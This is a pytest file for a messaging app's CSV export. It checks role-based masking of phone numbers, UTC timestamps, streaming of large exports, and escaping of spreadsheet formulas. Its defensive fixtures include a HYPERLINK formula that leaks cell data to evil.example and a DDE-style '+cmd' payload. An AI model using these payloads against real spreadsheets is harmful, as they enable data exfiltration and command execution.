"""Download CSV from the UI: a tab or a search as shown, masked as the API masks it for the same user, every
cell safe to open in a spreadsheet, times in ISO-8601 UTC, and streamed at any size."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert, select, update

from herald.app import Herald
from herald.domain.message import MessageStatus
from herald.services import campaigns
from herald.services.auth import CSRF_HEADER, SESSION_COOKIE, Role
from herald.services.campaigns import CampaignRequest
from herald.services.search import CSV_COLUMNS, CSV_PAGE
from herald.store.tables import messages
from tests.campaign_parts import validating
from tests.web.browser import Server, server
from tests.web.conftest import _SESSIONS, START, csrf_of, log_in
from tests.web.test_message_search import FULL_NUMBER, two_campaigns

__all__ = ["server"]  # the module-scoped uvicorn server of tests/web/browser.py, for the large export

HEADER = [*CSV_COLUMNS[:3], "clientName", *CSV_COLUMNS[3:]]
LARGE = 30_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


def fail_one(herald: Herald, campaign_id: int) -> int:
    """One message of the campaign failed with a provider's error text that reads as a formula and a body with one."""
    with herald.store.begin() as conn:
        target = (
            conn.execute(
                select(messages.c.id).where(messages.c.campaign_id == campaign_id, messages.c.mobile_no.like("+254%"))
            )
            .scalars()
            .first()
        )
        conn.execute(
            update(messages)
            .where(messages.c.id == target)
            .values(status=MessageStatus.FAILED, error_code="@30003", error_text="+cmd|' /C calc'!A0", body=FORMULA)
        )
    assert target is not None
    return int(target)


@pytest.mark.parametrize("role", [Role.VIEWER, Role.CAMPAIGN_MANAGER, Role.ADMIN])
def test_a_tab_downloads_as_the_api_exports_it_for_the_same_user(
    client: TestClient, herald: Herald, role: Role
) -> None:
    first, _ = two_campaigns(herald)
    log_in(client, role)
    tab = client.get(f"/campaigns/{first}?tab=pending").text
    link = re.search(r'href="(/campaigns/\d+/export\.csv\?tab=pending)"[^>]*>Download CSV', tab)
    assert link is not None
    ui = rows_of(client.get(link.group(1)))
    api = rows_of(
        client.get(
            "/api/v1/messages/export.csv",
            params={"campaignId": first, "status": "pending"},
            headers={CSRF_HEADER: csrf_of(client)},
        )
    )
    assert len(ui) == len(api) > 10
    assert [{k: v for k, v in r.items() if k != "clientName"} for r in ui] == api  # masked exactly as the API masks
    assert all(r["clientName"] for r in ui)  # the names the tab's officer knows clients by
    text = "".join(",".join(r.values()) for r in ui)
    assert bool(FULL_NUMBER.search(text)) is (role is Role.ADMIN)


def test_the_csv_has_its_columns_utc_times_and_no_cell_a_spreadsheet_would_run(
    client: TestClient, herald: Herald
) -> None:
    first, _ = two_campaigns(herald)
    target = fail_one(herald, first)
    log_in(client, Role.ADMIN)
    response = client.get(f"/campaigns/{first}/export.csv", params={"tab": "failed"})
    assert next(csv.reader(io.StringIO(response.text))) == HEADER
    (row,) = rows_of(response)
    assert row["id"] == str(target)
    assert row["body"] == "'" + FORMULA and row["errorText"] == "'+cmd|' /C calc'!A0" and row["errorCode"] == "'@30003"
    assert row["mobileNo"].startswith("'+254")
    created = datetime.fromisoformat(row["createdAt"])
    assert created == START and created.utcoffset() is not None and created.utcoffset().total_seconds() == 0


def test_a_search_downloads_its_matches_only(client: TestClient, herald: Herald) -> None:
    _, second = two_campaigns(herald)
    target = fail_one(herald, second)
    log_in(client, Role.VIEWER)
    page = client.get("/messages", params={"code": "@30003"}).text
    link = re.search(r'href="(/messages/export\.csv\?[^"]+)"[^>]*>Download CSV', page)
    assert link is not None
    rows = rows_of(client.get(link.group(1).replace("&amp;", "&")))
    assert [r["id"] for r in rows] == [str(target)] and not FULL_NUMBER.search(str(rows))
    everything = rows_of(client.get("/messages/export.csv"))
    assert len(everything) == len(set(r["id"] for r in everything)) > 20


def test_a_tab_search_for_digits_is_refused_to_a_viewer_in_the_csv_too(client: TestClient, herald: Herald) -> None:
    first, _ = two_campaigns(herald)
    log_in(client, Role.VIEWER)
    refused = client.get(f"/campaigns/{first}/export.csv", params={"tab": "pending", "q": "0712 345"})
    assert refused.status_code == 403 and "Only admins" in refused.text


def test_a_large_tab_streams_to_the_client(server: Server) -> None:
    """15 of the export's chunks (CSV_PAGE rows each) over real HTTP: as bounded for 100,000 rows, in a third
    of the time on a loaded test machine."""
    herald = server.herald
    request = {
        "campaignName": "Everyone",
        "triggerType": "direct",
        "runReportId": 166,
        "paramValue": {"officeId": "1", "loanOfficerId": "-1"},
        "message": "Hello {{firstName}}",
    }
    campaign_id = campaigns.create(CampaignRequest.model_validate(request), **validating(herald)).id
    base = {"campaign_id": campaign_id, "client_id": 1, "office_id": 1, "mobile_no": "+254712345678", "body": "Hi"}
    base |= {"status": int(MessageStatus.PENDING), "encoding": "GSM7", "segments": 1, "provider": "simulator"}
    base |= {"created_at": START, "updated_at": START}
    with herald.store.begin() as conn:
        conn.execute(insert(messages), [base | {"dedup_key": f"k{i}"} for i in range(LARGE)])
    rows, chunks = 0, 0
    cookies = {SESSION_COOKIE: _SESSIONS[Role.VIEWER]}
    with (
        httpx.Client(base_url=server.url, cookies=cookies, timeout=120) as http,
        http.stream("GET", f"/campaigns/{campaign_id}/export.csv", params={"tab": "pending"}) as response,
    ):
        assert response.status_code == 200 and "content-length" not in response.headers  # chunked: streamed
        pending = ""
        for text in response.iter_text():
            chunks += 1
            lines = (pending + text).split("\r\n")
            pending = lines.pop()
            rows += sum(1 for line in lines if line)
            assert "+254712345678" not in text
    assert pending == "" and rows == LARGE + 1  # the header and every message
    assert chunks >= LARGE // CSV_PAGE
